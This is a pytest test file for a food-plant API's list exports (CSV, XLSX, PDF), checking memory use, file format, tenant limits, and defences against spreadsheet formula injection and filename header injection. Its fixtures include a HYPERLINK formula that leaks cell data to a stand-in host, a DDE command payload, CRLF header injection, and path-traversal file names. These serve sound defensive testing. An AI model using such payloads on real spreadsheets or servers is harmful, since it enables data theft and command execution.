"""Exports: a whole list as one file that harms nobody who opens it, in little memory."""

import csv
import io
import tracemalloc
from collections.abc import AsyncIterator, Sequence
from contextlib import AsyncExitStack
from datetime import datetime
from decimal import Decimal
from typing import Any
from uuid import UUID

import httpx
import pytest
from fastapi import FastAPI
from fastapi.responses import StreamingResponse
from pydantic import BaseModel
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession
from sqlalchemy.orm import DeclarativeBase, Mapped, mapped_column

from foodflow.kernel.actor import Actor
from foodflow.kernel.db import Database, tenant_transaction
from foodflow.kernel.errors import Unavailable
from foodflow.kernel.exports import AT_ONCE, ROWS_AT_ONCE, Parts, disposition, file_of, parts_of
from foodflow.kernel.exports.delimited import cell
from foodflow.kernel.paging import PDF, XLSX
from foodflow.kernel.wire import Instant, Number, Out
from tests.kernel.http.make import fields
from tests.make import everything
from tests.registry import PLANT

MANY, LENGTH = 20_000, 1_000
TABLE = f"""
CREATE TABLE leaves (id int PRIMARY KEY, words text, amount numeric(12, 2), at timestamptz);
INSERT INTO leaves SELECT i, repeat('x', {LENGTH}), -i, timestamptz '2001-02-03 04:05:06+01'
FROM generate_series(1, {MANY}) AS i;
"""
EVIL = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://evil.test?leak="&A1;"Click")',
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff20SUM(A1)",
]
HARMLESS = ["Filling", "a=b", "1-2", "", "'quoted", "ä€😀", 'say "hi"', "a,b;c\td", "two\r\nlines", "\u2212 5 °C"]


class Base(DeclarativeBase):
    """Tables of this test alone."""


class Leaf(Base):
    __tablename__ = "leaves"

    id: Mapped[int] = mapped_column(primary_key=True)
    words: Mapped[str]
    amount: Mapped[Decimal]
    at: Mapped[datetime]


class LeafOut(Out):
    id: int
    words: str
    amount: Number
    at: Instant


class Row(BaseModel):
    """A row that comes from nowhere."""

    id: int = 1
    words: str = ""
    amount: Decimal = Decimal(1)
    at: datetime = datetime.fromisoformat("2001-02-03T04:05:06Z")


@pytest.fixture(scope="module", autouse=True)
async def _leaves(database: Database, demo: Actor) -> None:
    async with tenant_transaction(database, demo) as session:
        await (await session.connection()).exec_driver_sql(TABLE, execution_options={"no_parameters": True})


async def in_parts(*parts: Sequence[object]) -> AsyncIterator[Sequence[object]]:
    for part in parts:
        yield part


async def bytes_of(response: StreamingResponse) -> bytes:
    chunks = [chunk async for chunk in response.body_iterator]
    return b"".join(chunk if isinstance(chunk, bytes) else str(chunk).encode() for chunk in chunks)


async def csv_file(session: AsyncSession, parts: Parts) -> StreamingResponse:
    return await file_of(session, parts, LeafOut, name="leaves", format="csv", actor=everything("demo"))


async def written(session: AsyncSession, rows: Sequence[object]) -> bytes:
    return await bytes_of(await csv_file(session, in_parts(rows)))


def read(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", EVIL, ids=ascii)
async def test_a_text_that_a_spreadsheet_would_take_for_a_formula_is_disarmed(text: str, session: AsyncSession) -> None:
    assert cell(text) == f"'{text}"
    [row] = read(await written(session, [Row(words=text)]))
    assert row["words"] == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
async def test_every_other_text_comes_out_as_it_is(text: str, session: AsyncSession) -> None:
    [row] = read(await written(session, [Row(words=text)]))
    assert row["words"] == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [(-5, -5), (-1.5e-7, -1.5e-7), (None, ""), (True, "true"), (False, "false"), ({"a": "=1"}, '{"a": "=1"}')],
    ids=repr,
)
def test_what_is_no_text_keeps_its_value(value: object, expected: object) -> None:
    assert cell(value) == expected


async def test_a_cell_ends_neither_its_row_nor_its_column(session: AsyncSession) -> None:
    words = ['end"\r\n=1+1,"', 'a",=1+1', "\r\n\r\n", '";=1+1;"', "\0".replace("\0", "\x01")]
    rows = read(await written(session, [Row(id=number, words=each) for number, each in enumerate(words)]))
    assert [row["id"] for row in rows] == ["0", "1", "2", "3", "4"]
    assert [row["words"].removeprefix("'") for row in rows] == words


async def test_the_file_is_rfc_4180_in_utf_8_with_a_byte_order_mark_and_wire_values(session: AsyncSession) -> None:
    assert await written(session, [Row(id=7, words="Käse", amount=Decimal("-1234.50"))]) == (
        b"\xef\xbb\xbf"
        b'"id","words","amount","at"\r\n'
        b'7,"K\xc3\xa4se",-1234.5,"2001-02-03T04:05:06Z"\r\n'
    )  # fmt: skip


async def test_a_list_of_nothing_is_a_header(session: AsyncSession) -> None:
    response = await csv_file(session, in_parts())
    content = await bytes_of(response)
    assert content.decode("utf-8-sig") == '"id","words","amount","at"\r\n'
    assert response.headers["content-length"] == str(len(content))
    assert response.headers["content-type"].startswith("text/csv; charset=utf-8")
    assert response.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "name",
    [
        "a\r\nSet-Cookie: session=1",
        'a"; filename="evil.exe',
        "a;b=c",
        "../../etc/passwd",
        "..",
        ".htaccess",
        "C:\\evil",
        "Käse\u202egpj.exe",
        "\0",
        "'; drop",
    ],
    ids=ascii,
)
def test_no_name_of_a_file_gets_out_of_its_header(name: str) -> None:
    said = disposition(f"{name}.csv")
    kind, _, file = said.partition('; filename="')
    assert kind == "attachment"
    assert file.endswith('.csv"') or file == 'csv"'
    assert set(file[:-1]) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-")
    assert not file.startswith(".")


async def test_a_very_long_list_takes_little_memory(database: Database, demo: Actor) -> None:
    async with tenant_transaction(database, demo) as session:
        parts = parts_of(session, select(Leaf).order_by(Leaf.id))
        tracemalloc.start()
        response = await csv_file(session, parts)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    content = await bytes_of(response)
    assert len(content) > MANY * LENGTH
    assert peak < len(content) / 3
    assert [int(row["id"]) for row in read(content)] == list(range(1, MANY + 1))


async def test_the_file_is_sent_when_the_transaction_is_over(database: Database, demo: Actor) -> None:
    async with tenant_transaction(database, demo) as session:
        response = await csv_file(session, parts_of(session, select(Leaf).limit(3)))
    assert database.engine.sync_engine.pool.status().endswith("Current Checked out connections: 0")
    assert len(read(await bytes_of(response))) == 3


async def test_what_fails_on_its_way_fails_whole(session: AsyncSession) -> None:
    async def failing() -> Parts:
        yield [Row()] * ROWS_AT_ONCE
        message = "the database is gone"
        raise ConnectionError(message)

    with pytest.raises(ConnectionError):
        await csv_file(session, failing())


async def test_a_company_makes_few_exports_at_once_and_keeps_no_other_from_theirs(
    database: Database, demo: Actor, akron: Actor
) -> None:
    async def export(session: AsyncSession) -> bytes:
        return await written(session, [])

    async with AsyncExitStack() as at_work:
        for _ in range(AT_ONCE):
            await export(await at_work.enter_async_context(tenant_transaction(database, demo)))
        one_more = await at_work.enter_async_context(tenant_transaction(database, demo))
        with pytest.raises(Unavailable):
            await export(one_more)
        await export(await at_work.enter_async_context(tenant_transaction(database, akron)))
    async with tenant_transaction(database, demo) as session:
        await export(session)


async def made(client: httpx.AsyncClient) -> dict[str, Any]:
    """A line with an evil name, and a batch and a sensor that carry numbers below zero."""
    line = (
        await client.post(f"{PLANT}/lines", json={"line_number": "=1", "name": '=cmd|"x"', "design_speed": 80.5})
    ).json()
    product = {"product_code": "-P", "product_name": "@P", "target_quantity": 1, "notes": "two\r\nlines"}
    await client.post(f"{PLANT}/batches", json={"batch_number": "+1", "line_id": line["id"], **product})
    kind = {"name": "Freezer", "sensor_type": "temperature", "unit_of_measure": "Cel", "min_value": -25}
    await client.post(f"{PLANT}/sensors", json={"sensor_code": "T1", "line_id": line["id"], **kind})
    found: dict[str, Any] = line
    return found


async def export(client: httpx.AsyncClient, noun: str, **wanted: str) -> list[dict[str, str]]:
    answer = await client.get(f"{PLANT}/{noun}", params={"format": "csv", **wanted})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"] == f'attachment; filename="{noun}.csv"'
    return read(answer.content)


async def test_lines_batches_and_sensors_are_exported_with_all_their_fields(client: httpx.AsyncClient) -> None:
    line = await made(client)
    [as_row] = await export(client, "lines")
    assert set(as_row) == set(line)
    assert (as_row["line_number"], as_row["name"], as_row["design_speed"]) == ("'=1", '\'=cmd|"x"', "80.5")
    assert (as_row["is_active"], as_row["created_at"], as_row["status"]) == ("true", line["created_at"], "")
    for noun, expected in (
        ("batches", {"batch_number": "'+1", "product_code": "'-P", "product_name": "'@P", "notes": "two\r\nlines"}),
        ("sensors", {"sensor_code": "T1", "min_value": "-25.0", "max_value": "", "breach": ""}),
    ):
        [row] = await export(client, noun)
        [as_json] = (await client.get(f"{PLANT}/{noun}")).json()["results"]
        assert set(row) == set(as_json)
        assert row | expected == row


async def test_filters_search_and_order_hold_for_exports_and_pages_mean_nothing(
    akron_client: httpx.AsyncClient,
) -> None:
    for number in range(60):
        body = {"line_number": f"L{number:02}", "name": "even" if number % 2 == 0 else "odd", "plant_name": "North"}
        await akron_client.post(f"{PLANT}/lines", json=body)
    assert len(await export(akron_client, "lines")) == 60
    found = await export(akron_client, "lines", search="even", ordering="-line_number", plant_name="North")
    assert [row["line_number"] for row in found] == [f"L{number:02}" for number in range(58, -2, -2)]
    assert await export(akron_client, "lines", plant_name="South") == []


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"format": "csv", "page": "1"}, "page"),
        ({"format": "csv", "page_size": "10"}, "page_size"),
        ({"format": "xlsx", "page": "1"}, "page"),
        ({"format": "pdf", "page_size": "10"}, "page_size"),
        ({"format": "xls"}, "format"),
        ({"format": ""}, "format"),
        ({"format": "csv", "colour": "red"}, "colour"),
    ],
)
async def test_what_an_export_cannot_be_asked_is_refused_by_name(
    client: httpx.AsyncClient, query: dict[str, str], field: str
) -> None:
    assert fields(await client.get(f"{PLANT}/lines", params=query)) == {field}


async def test_a_list_that_does_not_say_so_is_not_exported(client: httpx.AsyncClient) -> None:
    counts = f"{PLANT}/lines/{UUID(int=0)}/counts"
    assert fields(await client.get(counts, params={"format": "csv"})) == {"format"}


async def test_openapi_says_which_lists_are_exported(app: FastAPI) -> None:
    paths = app.openapi()["paths"]
    for path, operations in paths.items():
        get = operations.get("get", {})
        formats = [each for each in get.get("parameters", ()) if each["name"] == "format"]
        content = get.get("responses", {}).get("200", {}).get("content", {})
        assert bool(formats) == (content.keys() >= {"text/csv", XLSX, PDF}), path
    assert "text/csv" in paths[f"{PLANT}/sensors"]["get"]["responses"]["200"]["content"]


@pytest.mark.parametrize("kind", ["xlsx", "pdf"])
async def test_every_format_is_answered_with_its_type_and_ending(client: httpx.AsyncClient, kind: str) -> None:
    answer = await client.get(f"{PLANT}/lines", params={"format": kind})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"] == f'attachment; filename="lines.{kind}"'
    assert answer.headers["content-length"] == str(len(answer.content))
    assert answer.headers["content-type"] == {"xlsx": XLSX, "pdf": PDF}[kind]
    assert answer.content.startswith({"xlsx": b"PK", "pdf": b"%PDF"}[kind])


@pytest.mark.parametrize("kind", ["xlsx", "pdf"])
@pytest.mark.parametrize("path", ["/api/v1/audit-entries", "/api/v1/events"])
async def test_trail_and_events_come_in_every_format_too(client: httpx.AsyncClient, path: str, kind: str) -> None:
    answer = await client.get(path, params={"format": kind})
    assert answer.status_code == 200, answer.text
    assert answer.content.startswith({"xlsx": b"PK", "pdf": b"%PDF"}[kind])
    assert fields(await client.get(path, params={"format": kind, "page_size": 5})) == {"page_size"}
